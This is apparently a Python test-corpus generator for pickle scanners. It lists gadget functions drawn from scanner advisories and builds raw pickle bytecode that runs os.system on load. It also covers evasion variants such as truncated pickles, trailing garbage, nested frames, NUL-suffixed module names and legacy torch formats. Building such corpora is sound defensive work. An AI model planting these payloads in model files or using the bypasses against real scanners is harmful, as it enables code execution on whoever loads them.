"""Hostile pickles: names and opcodes from the advisories of scanners."""

from __future__ import annotations

import pickle
from collections.abc import Iterator

from containers import COMMAND, Act, Hostile, call, harm, legacy, plain

KIND = "pickles"
GADGETS = {
    "exec-wrapper": ("torch.jit.unsupported_tensor_ops", "execWrapper", "issue 34"),
    "exec-wrapper-2": ("torch.testing._internal.jit_utils", "execWrapper", "picklescan GHSA"),
    "pip-main": ("pip", "main", "picklescan CVE-2025-1716"),
    "asyncio": ("asyncio.unix_events", "_UnixSubprocessTransport._start", "CVE-2025-10157"),
    "timeit": ("timeit", "timeit", "picklescan GHSA-v7x6"),
    "profile": ("cProfile", "run", "picklescan GHSA"),
    "trace": ("trace", "Trace.run", "picklescan GHSA"),
    "pdb": ("pdb", "run", "picklescan GHSA"),
    "code": ("code", "InteractiveInterpreter.runcode", "picklescan GHSA"),
    "doctest": ("doctest", "debug_script", "picklescan GHSA"),
    "idlelib": ("idlelib.run", "Executive.runcode", "picklescan GHSA"),
    "lib2to3": ("lib2to3.pgen2.grammar", "Grammar.loads", "picklescan GHSA"),
    "ensurepip": ("ensurepip", "_run_pip", "picklescan GHSA"),
    "collect-env": ("torch.utils.collect_env", "run", "picklescan GHSA"),
    "bottleneck": ("torch.utils.bottleneck.__main__", "run_cprofile", "picklescan GHSA"),
    "config-module": ("torch.utils._config_module", "ConfigModule.load_config", "GHSA"),
    "fx-experimental": (
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        "GHSA",
    ),
    "dynamo-guards": ("torch._dynamo.guards", "GuardBuilder.get", "picklescan GHSA"),
    "distributed": ("torch.distributed._functional_collectives", "_expand_group", "own"),
    "jit-simple-eval": ("torch.jit._script", "interface", "own"),
    "numpy-runstring": ("numpy.testing._private.utils", "runstring", "fickling GHSA"),
    "numpy-f2py": ("numpy.f2py.crackfortran", "getlincoef", "picklescan GHSA"),
    "pandas-eval": ("pandas", "eval", "own"),
    "sympify": ("sympy.core.sympify", "sympify", "own"),
    "sklearn-eval": ("sklearn.utils._testing", "check_skip_network", "own"),
    "types-code": ("types", "CodeType", "fickling GHSA"),
    "linecache": ("linecache", "getline", "picklescan GHSA"),
    "logging": ("logging.config", "fileConfig", "picklescan"),
    "pyrepl": ("_pyrepl.pager", "pipe_pager", "picklescan CVE-2026-56315"),
    "uuid": ("uuid", "_get_command_stdout", "picklescan CVE-2026-56315"),
    "osx": ("_osx_support", "_read_output", "picklescan CVE-2026-56315"),
    "aix": ("_aix_support", "_read_cmd_output", "picklescan CVE-2026-56315"),
    "imaplib": ("imaplib", "IMAP4_stream", "picklescan CVE-2026-56315"),
    "ctypes": ("ctypes", "CDLL", "fickling GHSA"),
    "pydoc": ("pydoc", "pipepager", "fickling GHSA"),
    "runpy": ("runpy", "run_path", "fickling GHSA"),
    "cffi": ("cffi", "FFI.dlopen", "own"),
    "triton": ("triton.runtime.build", "_build", "own"),
    "transformers": ("transformers.dynamic_module_utils", "get_class_in_module", "own"),
    "torch-load": ("torch", "load", "own"),
}


def files() -> Iterator[Hostile]:
    for name, (module, function, source) in GADGETS.items():
        data = b"\x80\x02" + call(module, function, "x") + b"."
        if "." in function:
            texts = (b"\x8c%c%s" % (len(each), each.encode()) for each in (module, function))
            data = b"\x80\x04" + b"".join(texts) + b"\x93\x8c\1x\x85R."
        yield Hostile(f"name-{name}.pkl", data, "names", "", source)
    yield from _opcodes()


def _opcodes() -> Iterator[Hostile]:
    act = harm()
    body = b"import os; os.system('%s')" % COMMAND.encode()
    wrapper = b"\x80\x02ctorch.jit.unsupported_tensor_ops\nexecWrapper\n(U%c%s}}tR."
    yield _of("exec-wrapper", wrapper % (len(body), body), "issue 34", "pickle")
    stack = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x8c\x10" + COMMAND.encode() + b"\x85R."
    yield _of("stack-global", stack, "picklescan#22", "pickle")
    nested = b"\x80\x04\x95" + (5).to_bytes(8, "little") + b"\x95" + bytes(8)
    yield _of("frame-in-frame", nested + act[2:], "frames", "pickle")
    yield _of("no-stop", act[:-1], "a pickle without its end", "pickle")
    yield _of("then-garbage", act[:-1] + b"\xff", "fickling: broken pickles run", "pickle")
    yield _of(
        "protocol-0",
        pickle.dumps(Act(__import__("os").system, COMMAND), 0),
        "CVE-2025-10155",
        "pickle",
    )
    yield _of("legacy", legacy(act), "modelscan: legacy files", "torch")
    frozen = b"\x80\x02" + call("os\0", "system", COMMAND) + b"."
    yield _of(
        "nul", frozen, "Python 3.11 imports its frozen os under the name os and NUL", "pickle"
    )
    keys = b"]" + call("os", "system", COMMAND) + b"0"
    yield _of("legacy-keys", legacy(plain({}), keys), "the pickle of the keys", "torch")
    info = plain(0x1950A86A20F9469CFC6C) + plain(1001) + act + plain({}) + plain([])
    yield _of("legacy-info", info, "the pickle of the machine", "torch")
    large = b"I" + b"0" * 5000 + b"1\n0"
    yield _of("digits", b"\x80\x02" + large + act[2:], "a number of 5,000 digits", "pickle")
    memo = b"\x80\x02N" + b"p-1\n" + act[2:]
    yield _of("memo-negative", memo, "a memo below zero", "")
    yield _of("build-class", b"\x80\x02cargparse\nNamespace\n(N}U\1xNstb.", "BUILD on a class", "")


def _of(name: str, data: bytes, source: str, loader: str) -> Hostile:
    return Hostile(f"pickle-{name}.pkl", data, KIND, loader, source)
